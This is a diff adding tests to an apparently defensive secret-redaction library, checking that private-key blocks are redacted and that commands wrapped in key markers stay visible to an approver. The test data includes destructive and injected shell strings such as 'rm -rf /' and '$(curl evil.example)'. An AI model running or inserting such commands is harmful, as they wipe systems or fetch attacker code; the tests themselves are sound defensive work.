@@ -55,6 +55,25 @@ def test_well_known_tokens_are_found(name: str) -> None:
     assert SHAPES.value({"a": [f"x {token}"]})[0] == {"a": ["x [REDACTED]"]}
 
 
+def test_nothing_hides_between_the_lines_of_a_key() -> None:
+    """Whoever approves a command must see it, however it is wrapped."""
+    head, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+    for hidden in ("; rm -rf /;", "\nrm -rf / --no-preserve-root\n", "$(curl evil.example)", "`x` && y | z"):
+        assert hidden in SHAPES.text(f"echo {head}{hidden}{end}")[0]
+
+
+def test_keys_with_headers_are_found_whole() -> None:
+    head = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n"
+    body = "MIIEowIBAAKCAQEAx9qZ3vT1MIIEowIBAAKCAQEAx9qZ3vT1\n" * 4 + "x9qZ==\n"
+    assert SHAPES.text(f"<{head}{body}-----END RSA PRIVATE KEY----->")[0] == "<[REDACTED]>"
+    pgp = (
+        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v1\n\n"
+        + body
+        + "=abcd\n-----END PGP PRIVATE KEY BLOCK-----"
+    )
+    assert "x9qZ3vT1" not in SHAPES.text(pgp)[0]
+
+
 def test_of_a_bearer_token_the_word_stays() -> None:
     token = "1f2e3d4c5b6a79881f2e3d4c5b6a7988"
     assert SHAPES.text(f"Authorization: Bearer {token}\r\n")[0] == "Authorization: Bearer [REDACTED]\r\n"
@@ -135,7 +154,7 @@ PIECES = st.lists(
 )
 
 
-@settings(max_examples=200)
+@settings(max_examples=200, deadline=None)
 @given(PIECES, st.lists(st.integers(0, 1500), max_size=10), st.sampled_from([SHAPES, OWN]))
 def test_however_a_stream_is_cut_patterns_match_the_same(
     pieces: list[str], cuts: list[int], known: KnownSecrets
